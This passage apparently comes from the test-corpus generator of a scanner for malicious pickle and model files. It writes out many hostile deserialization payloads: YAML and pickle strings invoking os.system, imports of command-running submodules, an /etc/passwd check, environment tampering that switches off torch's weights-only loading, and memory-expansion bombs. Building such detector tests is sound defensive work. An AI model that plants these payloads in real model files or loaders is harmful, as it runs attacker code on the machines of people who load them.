nested("yaml", "yaml", "unsafe_load", unicode(f"!!python/object/apply:os.system ['{COMMAND}']"))
nested("plistlib", "plistlib", "loads", bytes_(b"x"), fire="")
DATA("nested-loader/loader_in_a_map", proto(2, reduce(global_("builtins", "list"), reduce(global_("builtins", "map"), global_("torch.storage", "_load_from_bytes"), b"](" + bytes_(SYSTEM) + b"e"))), fire="pickle")

# --- Modules of what is blocked ------------------------------------------------------------------------------------------------------
def submodule(name, module, function, *arguments, fire="", **options):
    DATA(f"submodule/{name}", call(module, function, *arguments), fire=fire, **options)


submodule("asyncio", "asyncio.unix_events", "_UnixSubprocessTransport", unicode("x"))
submodule("os_path", "os.path", "exists", unicode("/etc/passwd"))
submodule("posixpath", "posixpath", "expandvars", unicode("$HOME"))
submodule("importlib", "importlib._bootstrap", "_gcd_import", unicode("antigravity"))
submodule("importlib_util", "importlib.util", "spec_from_file_location", unicode("x"), unicode("x.py"))
submodule("multiprocessing", "multiprocessing.managers", "BaseManager", unicode("x"))
submodule("unittest", "unittest.mock", "_importer", unicode("os"))
submodule("distutils", "distutils.spawn", "spawn", text_list("touch", FIRED))
submodule("distutils_file", "distutils.file_util", "write_file", unicode(FIRED), text_list("x"), fire="pickle")
submodule("logging_config", "logging.config", "dictConfig", DICT)
submodule("xmlrpc", "xmlrpc.client", "ServerProxy", unicode("http://x"))
submodule("http", "http.server", "HTTPServer", b"(" + unicode("") + b"K\x00t", NONE)
submodule("idlelib", "idlelib.run", "Executive", NONE)
submodule("lib2to3", "lib2to3.pgen2.pgen", "ParserGenerator", unicode("x"))
submodule("numpy_submodule", "numpy.distutils.exec_command", "exec_command", unicode(COMMAND))
submodule("torch_submodule", "torch.utils.cpp_extension", "load", unicode("x"), unicode("x.cpp"))
submodule("torch_package", "torch.package.package_importer", "PackageImporter", unicode("x"))
submodule("torch_fx", "torch.fx.graph_module", "reduce_graph_module", DICT, unicode("x"), verdicts=("malicious", "code"))
submodule("torch_dynamo", "torch._dynamo.external_utils", "wrap_inline", NONE)
submodule("unknown_of_torch", "torch.no.such.module", "x")
submodule("blanks", " os", "system", unicode(COMMAND), verdicts=("malicious", "code"))
submodule("frozen", "_frozen_importlib_external", "SourceFileLoader", unicode("x"), unicode("x.py"))
submodule("scanner", "picklescan.scanner", "_list_globals", NONE, verdicts=("malicious", "code"))
submodule("own_scanner", "holdall", "scan", NONE, verdicts=("malicious", "code"))
submodule("main_module", "__main__", "x", verdicts=("malicious", "code"))
DATA("submodule/modules_set", proto(2, global_("sys", "modules") + unicode("json") + NONE + b"s"))
DATA("submodule/modules_set_many", proto(2, global_("sys", "modules") + b"(" + unicode("json") + NONE + b"u"))
DATA("submodule/modules_built", proto(2, global_("sys", "modules") + DICT + b"b"))
DATA("submodule/path_appended", proto(2, global_("sys", "path") + unicode(".") + b"a"))
DATA("submodule/path_extended", proto(2, global_("sys", "path") + b"(" + unicode(".") + b"e"))
DATA("submodule/meta_path", proto(2, global_("sys", "meta_path") + NONE + b"a"))
DATA("submodule/environment", proto(2, global_("os", "environ") + unicode("TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD") + unicode("1") + b"s"))
DATA("submodule/class_changed", proto(2, global_("collections", "OrderedDict") + NONE + b"}" + unicode("x") + b"K\x01s\x86b"))
DATA("submodule/module_by_getattr", proto(2, reduce(global_("builtins", "getattr"), global_("os", "path"), unicode("os"))), verdicts=("malicious",))


# --- texts that are pickles, behind what is none by itself ------------------------------------------------------------------------------
LINES = b"cos\nsystem\n(V" + COMMAND.encode() + b"\ntR."
for number, first in enumerate((b"L" + b"1" * 2000 + b"L\n", b"I" + b"1" * 2000 + b"\n", b"L" + b"1" * 4000 + b"\n", b"L0x" + b"f" * 5000 + b"L\n", b"I0x" + b"f" * 5000 + b"\n", b"V" + b"a" * (9 << 20) + b"\n")):
    DATA(f"content-mismatch/long_first_{number}", first + b"0" + LINES, "model.pkl", fire="pickle")
FIRST = [pickle.dumps(value, 0) for value in (None, True, 5, 1.5, 10**20, "weights", (), {}, [1], (1,))] + [b"].", b"N20.", b"Np0\n.", b"L1L\n.", b"cbuiltins\nobject\n.", b"N." * 3, b"N." * 5000]
for number, first in enumerate(FIRST):
    DATA(f"several-pickles/text_{number}", first + LINES, "model.pkl", fire="pickles")
for number, last in enumerate((b'(cos\nsystem\nS"' + COMMAND.encode() + b'"\no.', b'(S"' + COMMAND.encode() + b'"\nios\nsystem\n.', LINES[:-1], LINES + b"0(")):
    DATA(f"several-pickles/text_last_{number}", b"N." + last, "model.dat", fire="pickles")
NESTED = b")" + b"".join(b"q%c0h%ch%c\x86" % (i, i, i) for i in range(60))
DATA("expansion/hash_of_tuples", b"\x80\x02}" + NESTED + b"Ns.", "model.pkl")
DATA("expansion/far_memo", b"\x80\x02]r\xff\xff\xff\xff.", "model.pkl")
DATA("expansion/far_memo_line", b"]p4000000000\n.", "model.pkl")
